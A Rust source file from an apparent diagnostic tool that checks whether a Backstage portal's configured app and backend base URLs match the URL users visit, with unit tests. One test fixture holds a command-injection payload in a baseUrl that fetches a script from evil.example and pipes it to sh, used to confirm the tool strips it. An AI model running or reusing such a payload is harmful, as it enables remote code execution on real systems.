//! Whether the config that browsers get names the URL that they use.

use crate::{
    finding::Finding,
    seen::{Seen, quoted, said},
    target::{Origin, Target},
};

const ID: &str = "base-url";
const DOCS: &str = "https://backstage.io/docs/conf/writing/";

pub(super) fn check(seen: &Seen) -> Vec<Finding> {
    let Some(target) = &seen.target else { return vec![] };
    if seen.page.as_ref().is_none_or(|page| page.sources.is_empty()) {
        let observed = "Which base URLs are configured cannot be known: the page shows no config";
        return vec![Finding::unknown(ID, observed)];
    }
    let keys = ["app.baseUrl", "backend.baseUrl"];
    let configured: Vec<_> = keys
        .into_iter()
        .filter_map(|key| seen.config_text(key).map(|url| (key, said(url), Origin::of(url))))
        .collect();
    let asked = &target.origin;
    if let (true, Some((key, url, Some(origin)))) = (
        asked.is_loopback(),
        configured.iter().find(|(_, _, origin)| origin.as_ref().is_some_and(|origin| !origin.is_loopback())),
    ) {
        let observed = format!(
            "You asked at {asked}, and {key} is {url}: what users get there, by its ingress and its certificate, can be seen only there"
        );
        // The base, unless the page has made up one, is known; of what the page says, the origin is enough.
        let there = Target { origin: origin.clone(), base: target.base.clone() };
        let command = format!("greenroom look {}", quoted(&there.to_string()));
        return vec![Finding::unknown(ID, observed).change(command)];
    }
    let mut found = vec![];
    for (key, url, origin) in &configured {
        found.extend(match origin {
            None => Some(
                Finding::fail(ID, format!("{key} is '{url}', which is no URL"))
                    .why("The front end makes the URLs of its calls of it"),
            ),
            Some(origin) if origin == asked || asked.is_loopback() => None,
            Some(origin) if origin.is_loopback() => Some(
                Finding::fail(ID, format!("{key} is {url}, and users come to {asked}"))
                    .why(
                        "Sign-in providers send users back to backend.baseUrl, so to their own machine, and links in \
                         notifications, mails and templates lead there",
                    ),
            ),
            Some(origin) if asked.is_https && !origin.is_https && origin.host == asked.host => Some(
                Finding::fail(ID, format!("{key} is {url}, and users come by https"))
                    .why("Sign-in returns by http, cookies are made without Secure, and CORS compares with the wrong origin"),
            ),
            // A backend with a host of its own is a way to set it up.
            Some(_) if *key == "backend.baseUrl" => None,
            Some(_) => Some(
                Finding::warn(ID, format!("{key} is {url}, and you asked at {asked}"))
                    .why("If users come here, too, sign-in and CORS, which know one origin, fail for them"),
            ),
        });
    }
    let is_wrong = !found.is_empty();
    if is_wrong {
        let keys = format!(
            "If users come to {asked}, set both:\napp: {{baseUrl: '{target}'}}\nbackend: {{baseUrl: '{target}'}}"
        );
        return found.into_iter().map(|finding| finding.change(&*keys).source(DOCS)).collect();
    }
    let written: Vec<_> = configured.iter().map(|(key, url, _)| format!("{key} is {url}")).collect();
    match &*written {
        [] => vec![Finding::unknown(ID, "The page's config names no base URL")],
        written => {
            vec![Finding::ok(ID, format!("{}, which fits the URL that you asked", written.join(" and ")))]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::tests::{configured, healthy, only_ok, only_problem, only_unknown};

    #[test]
    fn urls_of_this_machine_in_a_public_portal_are_told() {
        let mut seen = healthy();
        only_ok(check(&seen), ID);
        configured(
            &mut seen,
            r#"{"app":{"baseUrl":"https://p.example"},"backend":{"baseUrl":"http://localhost:7007"}}"#,
        );
        let told = only_problem(check(&seen), ID);
        assert!(
            told.observed.starts_with("backend.baseUrl is http://localhost:7007, and users come to"),
            "{told:?}"
        );
    }

    #[test]
    fn http_in_the_config_of_a_portal_with_https_is_told() {
        let mut seen = healthy();
        configured(
            &mut seen,
            r#"{"app":{"baseUrl":"https://p.example"},"backend":{"baseUrl":"http://p.example"}}"#,
        );
        assert!(only_problem(check(&seen), ID).observed.contains("users come by https"));
    }

    #[test]
    fn a_backend_with_a_host_of_its_own_is_fine() {
        let mut seen = healthy();
        configured(
            &mut seen,
            r#"{"app":{"baseUrl":"https://p.example"},"backend":{"baseUrl":"https://api.p.example"}}"#,
        );
        only_ok(check(&seen), ID);
    }

    #[test]
    fn through_a_forwarded_port_nothing_is_said_of_the_ingress() {
        let mut seen = healthy();
        seen.target = Some("http://localhost:7007".parse().unwrap());
        let told = only_unknown(check(&seen), ID);
        assert_eq!(told.change.as_deref(), Some("greenroom look https://p.example"));
        configured(
            &mut seen,
            r#"{"app":{"baseUrl":"https://p.example/x;curl$IFS-s$IFS'evil.example/a'|sh"}}"#,
        );
        let told = only_unknown(check(&seen), ID);
        assert_eq!(told.change.as_deref(), Some("greenroom look https://p.example"));
    }
}
